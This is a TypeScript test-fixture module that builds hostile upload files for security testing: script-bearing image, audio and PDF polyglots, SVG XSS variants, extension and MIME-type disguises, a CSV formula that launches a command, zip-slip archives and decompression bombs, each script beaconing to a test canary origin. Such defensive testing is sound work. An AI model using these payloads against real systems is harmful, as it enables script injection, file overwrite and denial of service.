import { crc32, createDeflate, deflateRawSync, deflateSync } from 'node:zlib';
import sharp from 'sharp';
import { planted } from './xss-payloads.ts';

/** A file as somebody hostile would send it. */
export interface HostileFile {
  /** What it tries, in words; unique. */
  readonly about: string;
  readonly name: string;
  /** As it is declared. */
  readonly type: string;
  readonly bytes: Buffer;
}

/** What a photo must not tell any more. Each stands in another part of the file. */
export const CANARIES = [
  'GpsCanary',
  'ArtistCanary',
  'XmpCanary',
  'IptcCanary',
  'CommentCanary',
  'TextCanary',
] as const;

const ascii = (text: string) => Buffer.from(text, 'latin1');
const sixteen = (value: number) => Buffer.from([(value >> 8) & 255, value & 255]);
const thirtyTwo = (value: number) => {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32BE(value);
  return bytes;
};

/** Plain pixels, in every form that is taken. */
const picture = (width: number, height: number) =>
  sharp({ create: { width, height, channels: 3, background: { r: 30, g: 120, b: 200 } } });

/** A stretch of a PNG. */
export function pngChunk(type: string, data: Buffer): Buffer {
  const body = Buffer.concat([ascii(type), data]);
  return Buffer.concat([thirtyTwo(data.length), body, thirtyTwo(crc32(body))]);
}

/** A PNG of black points, one bit each: what unfolds to much is small here. Built in stretches, so that making it takes no memory. */
export async function hugePng(width: number, height: number): Promise<Buffer> {
  const deflate = createDeflate({ level: 9 });
  const pieces: Buffer[] = [];
  deflate.on('data', (piece: Buffer) => pieces.push(piece));
  const row = Buffer.alloc(1 + Math.ceil(width / 8));
  for (let at = 0; at < height; at += 1)
    if (!deflate.write(row)) await new Promise((resolve) => deflate.once('drain', resolve));
  await new Promise<void>((resolve) => deflate.end(resolve));
  return png(width, height, Buffer.concat(pieces));
}

function png(width: number, height: number, data: Buffer): Buffer {
  const head = Buffer.concat([thirtyTwo(width), thirtyTwo(height), Buffer.from([1, 0, 0, 0, 0])]);
  const chunks = [pngChunk('IHDR', head), pngChunk('IDAT', data), pngChunk('IEND', Buffer.alloc(0))];
  return Buffer.concat([Buffer.from('89504e470d0a1a0a', 'hex'), ...chunks]);
}

/** A GIF of so many frames, each the size of the whole; one pixel of data each. */
function gifOf(width: number, height: number, frames: number): Buffer {
  const little = (value: number) => Buffer.from([value & 255, value >> 8]);
  const head = Buffer.concat([
    ascii('GIF89a'),
    little(width),
    little(height),
    Buffer.from('800000000000ffffff', 'hex'),
  ]);
  const forever = Buffer.concat([Buffer.from('21ff0b', 'hex'), ascii('NETSCAPE2.0'), Buffer.from('0301000000', 'hex')]);
  const control = Buffer.from('21f9040400000000', 'hex');
  const frame = Buffer.concat([
    ...[control, Buffer.from('2c00000000', 'hex'), little(width), little(height)],
    Buffer.from('0002024401003b'.slice(0, 12), 'hex'),
  ]);
  return Buffer.concat([head, forever, ...Array.from({ length: frames }, () => frame), Buffer.from('3b', 'hex')]);
}

/** An archive with these entries. */
export function zip(entries: Readonly<Record<string, Buffer | string>>, deflated = true): Buffer {
  const [locals, centrals]: [Buffer[], Buffer[]] = [[], []];
  let offset = 0;
  for (const [name, content] of Object.entries(entries)) {
    const bytes = Buffer.from(content);
    const data = deflated ? deflateRawSync(bytes, { level: 9 }) : bytes;
    const common = Buffer.alloc(26);
    common.writeUInt16LE(20, 0);
    common.writeUInt16LE(deflated ? 8 : 0, 4);
    common.writeUInt32LE(crc32(bytes), 10);
    common.writeUInt32LE(data.length, 14);
    common.writeUInt32LE(bytes.length, 18);
    common.writeUInt16LE(Buffer.byteLength(name), 22);
    locals.push(ascii('PK\x03\x04'), common, Buffer.from(name), data);
    const after = Buffer.alloc(14);
    after.writeUInt32LE(offset, 10);
    centrals.push(ascii('PK\x01\x02'), sixteen(0x1400), common, after, Buffer.from(name));
    offset += 30 + Buffer.byteLength(name) + data.length;
  }
  const directory = Buffer.concat(centrals);
  const end = Buffer.alloc(18);
  end.writeUInt16LE(Object.keys(entries).length, 4);
  end.writeUInt16LE(Object.keys(entries).length, 6);
  end.writeUInt32LE(directory.length, 8);
  end.writeUInt32LE(offset, 12);
  return Buffer.concat([...locals, directory, ascii('PK\x05\x06'), end]);
}

/** What runs where anything does: it calls the global that was planted, and asks for an address that listens. */
export const scriptOf = (canary: string, about: string) =>
  `try{${planted}(${JSON.stringify(about)})}catch(e){};new Image().src=${JSON.stringify(`${canary}/ran?${encodeURIComponent(about)}`)};`;

const markupOf = (script: string) =>
  `<!doctype html><html><body><script>${script}</script><img src=x onerror='${script.replaceAll("'", '')}'><svg onload='${script.replaceAll("'", '')}'></svg></body></html>`;
const svgOf = (inside: string, more = '') =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="10" height="10" ${more}>${inside}</svg>`;

/** All hostile files; `canary` is an origin that nothing of them may ever ask. */
export async function hostileFiles(canary: string): Promise<HostileFile[]> {
  const files: HostileFile[] = [];
  const add = (about: string, name: string, type: string, make: (script: string) => Buffer | string) =>
    files.push({ about, name, type, bytes: Buffer.from(make(scriptOf(canary, about)) as Buffer) });
  const [aPng, aJpeg, aGif, aWebp] = await Promise.all([
    picture(400, 200).png().toBuffer(),
    picture(400, 200).jpeg().toBuffer(),
    picture(400, 200).gif().toBuffer(),
    picture(400, 200).webp().toBuffer(),
  ]);
  await addPolyglots(add, { aPng, aJpeg, aGif, aWebp });
  addDrawings(add);
  addDisguised(add);
  addArchives(add);
  addRecordings(add);
  return files;
}

type Add = (about: string, name: string, type: string, make: (script: string) => Buffer | string) => void;
interface Pictures {
  readonly aPng: Buffer;
  readonly aJpeg: Buffer;
  readonly aGif: Buffer;
  readonly aWebp: Buffer;
}

async function addPolyglots(add: Add, { aPng, aJpeg, aGif, aWebp }: Pictures) {
  // The width is spelled `/*`, so that the header is a name, and all of the picture a comment of the script after it.
  const wide = await picture(0x2a2f, 1).gif().toBuffer();
  add('GIF and script', 'wide.gif', 'image/gif', (script) => Buffer.concat([wide, ascii(`*/=1;${script}`)]));
  add('GIF and HTML', 'page.gif', 'image/gif', (script) => Buffer.concat([aGif, ascii(markupOf(script))]));
  const comment = (script: string) => {
    const text = ascii(`--></style></script>${markupOf(script)}<!--`);
    return Buffer.concat([Buffer.from('fffe', 'hex'), sixteen(text.length + 2), text]);
  };
  add('JPEG with HTML as its comment', 'holiday.jpg', 'image/jpeg', (script) =>
    Buffer.concat([aJpeg.subarray(0, 2), comment(script), aJpeg.subarray(2)]),
  );
  add('JPEG and HTML', 'page.jpg', 'image/jpeg', (script) => Buffer.concat([aJpeg, ascii(markupOf(script))]));
  add('PNG with a script after its end', 'after.png', 'image/png', (script) =>
    Buffer.concat([aPng, ascii(markupOf(script))]),
  );
  add('PNG with HTML as its words', 'words.png', 'image/png', (script) =>
    Buffer.concat([aPng.subarray(0, 33), pngChunk('tEXt', ascii(`Comment\0${markupOf(script)}`)), aPng.subarray(33)]),
  );
  add('PNG with HTML packed into its points', 'packed.png', 'image/png', (script) =>
    Buffer.concat([aPng.subarray(0, -12), pngChunk('IDAT', deflateSync(markupOf(script))), aPng.subarray(-12)]),
  );
  add('WebP and HTML', 'page.webp', 'image/webp', (script) => Buffer.concat([aWebp, ascii(markupOf(script))]));
  add('PDF and HTML', 'page.pdf', 'application/pdf', (script) => `%PDF-1.7\n${markupOf(script)}\n%%EOF\n`);
  add('PDF that runs a script when it opens', 'opens.pdf', 'application/pdf', (script) => {
    const objects = [
      '<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>',
      '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
      '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>',
      `<< /S /JavaScript /JS (app.alert\\(1\\);this.submitForm\\('${/"(http[^"]+)"/.exec(script)![1]}'\\);) >>`,
    ];
    const body = objects.map((text, index) => `${index + 1} 0 obj\n${text}\nendobj\n`).join('');
    return `%PDF-1.7\n${body}trailer << /Root 1 0 R /Size 5 >>\n%%EOF\n`;
  });
  add('PDF and script', 'script.pdf', 'application/pdf', (script) => `%PDF-1.7=1/*\n%%EOF*/;${script}`);
}

function addDrawings(add: Add) {
  const drawings: Readonly<Record<string, (script: string) => string>> = {
    'a script': (script) => svgOf(`<script>${script}</script>`),
    'a handler': (script) => svgOf('', `onload='${script.replaceAll("'", '')}'`),
    'a page in it': (script) =>
      svgOf(
        `<foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml"><script>${script}</script></body></foreignObject>`,
      ),
    'an address that is a script': (script) =>
      svgOf(`<a xlink:href="javascript:${encodeURIComponent(script)}"><rect width="9" height="9"/></a>`),
    entities: (script) =>
      `<!DOCTYPE svg [<!ENTITY x "${script.replaceAll('"', "'")}">]>${svgOf('<script>&x;</script>')}`,
    'a drawing elsewhere': (script) =>
      svgOf(`<image xlink:href=${JSON.stringify(/"(http[^"]+)"/.exec(script)![1])} width="9" height="9"/>`),
    'a stylesheet of its own': (script) =>
      `<?xml-stylesheet type="text/xsl" href="#x"?>${svgOf(`<script>${script}</script>`)}`,
  };
  for (const [what, make] of Object.entries(drawings)) {
    add(`SVG with ${what}`, 'drawing.svg', 'image/svg+xml', make);
    add(`SVG with ${what}, called a PNG`, 'drawing.png', 'image/png', make);
    add(`SVG with ${what}, called a text`, 'drawing.txt', 'text/plain', make);
  }
  add('SVG with a script, packed', 'drawing.svgz', 'image/svg+xml', (script) => svgOf(`<script>${script}</script>`));
}

function addDisguised(add: Add) {
  const types: Readonly<Record<string, string>> = {
    ...{ png: 'image/png', jpg: 'image/jpeg', gif: 'image/gif', webp: 'image/webp', avif: 'image/avif' },
    ...{
      mp3: 'audio/mpeg',
      ogg: 'audio/ogg',
      wav: 'audio/wav',
      flac: 'audio/flac',
      mp4: 'video/mp4',
      webm: 'video/webm',
    },
    ...{ pdf: 'application/pdf', zip: 'application/zip', txt: 'text/plain', md: 'text/markdown', csv: 'text/csv' },
  };
  for (const [ending, type] of Object.entries(types))
    add(`HTML called .${ending}`, `page.${ending}`, type, (script) => markupOf(script));
  for (const ending of [
    'html',
    'htm',
    'xhtml',
    'shtml',
    'svg',
    'xml',
    'xsl',
    'mht',
    'js',
    'mjs',
    'css',
    'swf',
    'wasm',
    'hta',
  ])
    add(`HTML as .${ending}`, `page.${ending}`, '', (script) => markupOf(script));
  for (const name of [
    'a.png.html',
    'a.html.',
    'a.png\0.html',
    'a.html%00.png',
    'a.php.txt',
    'a.html;.png',
    'a.pHtMl',
    'a.png:x.html',
    'a.txt/',
  ])
    add(`HTML as ${JSON.stringify(name)}`, name, '', (script) => markupOf(script));
  for (const type of [
    'text/html',
    'image/svg+xml',
    'text/javascript',
    'multipart/form-data',
    'TEXT/HTML; charset=utf-7',
    'application/xhtml+xml',
  ])
    add(`a text declared as ${type}`, 'a.txt', type, (script) => markupOf(script));
  add('HTML in UTF-7', 'seven.txt', 'text/plain', (script) => `+ADw-script+AD4-${script}+ADw-/script+AD4-`);
  add('HTML in UTF-16', 'sixteen.txt', 'text/plain', (script) => Buffer.from(`\uFEFF${markupOf(script)}`, 'utf16le'));
  add('a script called a text', 'run.txt', 'text/plain', (script) => script);
  add('a script called a table', 'run.csv', 'text/csv', (script) => script);
  add('formulas', 'sums.csv', 'text/csv', () => '=cmd|\' /C calc\'!A0,@SUM(1+1),"+1",-1\n');
}

function addArchives(add: Add) {
  add('ZIP with HTML before it', 'before.zip', 'application/zip', (script) =>
    Buffer.concat([zip({ 'a.txt': 'a' }), ascii(markupOf(script))]),
  );
  add('HTML with ZIP after it', 'after.zip', 'application/zip', (script) =>
    Buffer.concat([ascii(markupOf(script)), zip({ 'a.txt': 'a' })]),
  );
  add('ZIP with HTML unpacked in it', 'stored.zip', 'application/zip', (script) =>
    zip({ 'index.html': markupOf(script) }, false),
  );
  add('ZIP with entries that lead out', 'out.zip', 'application/zip', (script) =>
    zip({
      '../../../../tmp/lc-out.txt': script,
      '/tmp/lc-out.txt': script,
      '..\\..\\lc-out.txt': script,
      'C:\\lc-out.txt': script,
    }),
  );
  const office = (script: string) =>
    zip(
      {
        '[Content_Types].xml':
          '<?xml version="1.0"?><Types><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
        'word/document.xml': markupOf(script),
      },
      false,
    );
  add('DOCX with HTML in it', 'letter.docx', '', office);
  add('EPUB with scripts', 'book.epub', 'application/epub+zip', (script) =>
    zip({ mimetype: 'application/epub+zip', 'index.xhtml': markupOf(script) }, false),
  );
  add('a program called a ZIP', 'run.zip', 'application/zip', (script) =>
    Buffer.concat([ascii('MZ'), Buffer.alloc(200), ascii(script)]),
  );
}

function addRecordings(add: Add) {
  const frames = Buffer.concat(
    Array.from({ length: 12 }, () => Buffer.concat([Buffer.from('fffb9064', 'hex'), Buffer.alloc(413)])),
  );
  add('MP3 with HTML in its tag', 'song.mp3', 'audio/mpeg', (script) => {
    const text = ascii(`\0${markupOf(script)}`);
    const frame = Buffer.concat([ascii('TIT2'), thirtyTwo(text.length), Buffer.alloc(2), text]);
    const size = Buffer.from([0, 0, frame.length >> 7, frame.length & 127]);
    return Buffer.concat([ascii('ID3'), Buffer.from([3, 0, 0]), size, frame, frames]);
  });
  add('WAV and HTML', 'sound.wav', 'audio/wav', (script) =>
    Buffer.concat([
      ascii('RIFF'),
      Buffer.from('24000000', 'hex'),
      ascii('WAVEfmt '),
      Buffer.from('10000000010001001f4000001f40000001000800', 'hex'),
      ascii('data'),
      Buffer.alloc(4),
      ascii(markupOf(script)),
    ]),
  );
  add('MP4 and HTML', 'film.mp4', 'video/mp4', (script) =>
    Buffer.concat([
      Buffer.from('0000001c', 'hex'),
      ascii('ftypisom'),
      Buffer.from('00000200', 'hex'),
      ascii('isomiso2mp41'),
      Buffer.from('00000008', 'hex'),
      ascii('free'),
      ascii(markupOf(script)),
    ]),
  );
  add('WebM and HTML', 'film.webm', 'video/webm', (script) =>
    Buffer.concat([
      Buffer.from('1a45dfa39f4286810142f7810142f2810442f381084282847765626d42878102428581024', 'hex'),
      ascii(markupOf(script)),
    ]),
  );
  add('Ogg and HTML', 'sound.ogg', 'audio/ogg', (script) =>
    Buffer.concat([
      ascii('OggS'),
      Buffer.alloc(24),
      Buffer.from('011e01766f72626973', 'hex'),
      Buffer.alloc(23),
      ascii(markupOf(script)),
    ]),
  );
  add('FLAC and HTML', 'sound.flac', 'audio/flac', (script) =>
    Buffer.concat([ascii('fLaC'), Buffer.from('80000022', 'hex'), Buffer.alloc(34), ascii(markupOf(script))]),
  );
}

/** Photos that tell more than they show, one in each form. */
export async function tellingPhotos(): Promise<HostileFile[]> {
  const [, artist, xmp] = CANARIES;
  const gps = { GPSLatitudeRef: 'N', GPSLatitude: '52/1 31/1 12/1', GPSAreaInformation: CANARIES[0] };
  const packet = `<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description rdf:about="${xmp}"/></rdf:RDF></x:xmpmeta>`;
  const told = () =>
    picture(800, 400)
      .withExif({ IFD0: { Artist: artist, Copyright: CANARIES[0], ImageDescription: CANARIES[4] }, IFD3: gps })
      .withXmp(packet)
      .withIccProfile('p3');
  const jpeg = await told().jpeg().toBuffer();
  const segment = (marker: string, text: string) =>
    Buffer.concat([Buffer.from(marker, 'hex'), sixteen(text.length + 2), ascii(text)]);
  const iptc = `Photoshop 3.0\x008BIM\x04\x04\0\0\0\0\0\x0f\x1c\x02\x78\0\x0a${CANARIES[3]}\0`;
  const png = await told().png().toBuffer();
  const words = pngChunk('tEXt', ascii(`Author\0${CANARIES[5]}`));
  const gif = await picture(800, 400).gif().toBuffer();
  const remark = Buffer.concat([
    Buffer.from('21fe', 'hex'),
    Buffer.from([CANARIES[4].length]),
    ascii(`${CANARIES[4]}\0`),
  ]);
  return [
    {
      about: 'JPEG',
      name: 'photo.jpg',
      type: 'image/jpeg',
      bytes: Buffer.concat([
        jpeg.subarray(0, 2),
        segment('fffe', CANARIES[4]),
        segment('ffed', iptc),
        jpeg.subarray(2),
      ]),
    },
    {
      about: 'PNG',
      name: 'photo.png',
      type: 'image/png',
      bytes: Buffer.concat([png.subarray(0, 33), words, png.subarray(33)]),
    },
    { about: 'WebP', name: 'photo.webp', type: 'image/webp', bytes: await told().webp().toBuffer() },
    { about: 'AVIF', name: 'photo.avif', type: 'image/avif', bytes: await told().avif({ effort: 0 }).toBuffer() },
    {
      about: 'GIF',
      name: 'photo.gif',
      type: 'image/gif',
      bytes: Buffer.concat([gif.subarray(0, -1), remark, gif.subarray(-1)]),
    },
  ];
}

/** Small files that unfold to much. */
export async function bombs(): Promise<HostileFile[]> {
  const jpeg = await picture(16, 16).jpeg().toBuffer();
  const frame = jpeg.indexOf(Buffer.from('ffc0', 'hex'));
  const webp = await picture(16, 16).webp({ lossless: true }).toBuffer();
  const promised = Buffer.from(jpeg);
  promised.fill(0xff, frame + 5, frame + 9);
  const wide = Buffer.from(webp);
  // 16,384 pixels each way: 14 bits of width and of height, after one byte of signature.
  wide.writeUInt32LE(0x0fffffff, webp.indexOf('VP8L') + 9);
  const types = { png: 'image/png', jpg: 'image/jpeg', gif: 'image/gif', webp: 'image/webp' } as const;
  const bomb = (about: string, ending: keyof typeof types, bytes: Buffer) => ({
    about,
    name: `bomb.${ending}`,
    type: types[ending],
    bytes,
  });
  return [
    bomb('a PNG of 400 million points', 'png', await hugePng(20_000, 20_000)),
    bomb('a PNG of one line that is 3 million points long', 'png', await hugePng(3_000_000, 15)),
    bomb('a PNG that promises 4 thousand million points', 'png', png(65_535, 65_535, deflateSync(Buffer.alloc(99)))),
    bomb('a JPEG that promises 4 thousand million points', 'jpg', promised),
    bomb('a WebP that promises 268 million points', 'webp', wide),
    bomb('a GIF that promises 4 thousand million points', 'gif', gifOf(65_535, 65_535, 1)),
    bomb('a GIF of 4,000 frames of a million points', 'gif', gifOf(1_000, 1_000, 4_000)),
    bomb('a GIF of 100,000 frames', 'gif', gifOf(40, 40, 100_000)),
  ];
}

/** Archives that unfold to much, for who would unpack them. */
export function archiveBombs(): HostileFile[] {
  const zeros = Buffer.alloc(60_000_000);
  const inner = zip({ 'zeros.bin': zeros });
  const nested = zip({ 'a.zip': inner, 'b.zip': inner, 'c.zip': inner });
  const types = zip({ '[Content_Types].xml': zeros, 'word/document.xml': 'x' });
  return [
    { about: 'a ZIP of ZIPs of zeros', name: 'zeros.zip', type: 'application/zip', bytes: nested },
    { about: 'a DOCX whose list of contents unfolds to much', name: 'zeros.docx', type: '', bytes: types },
  ];
}
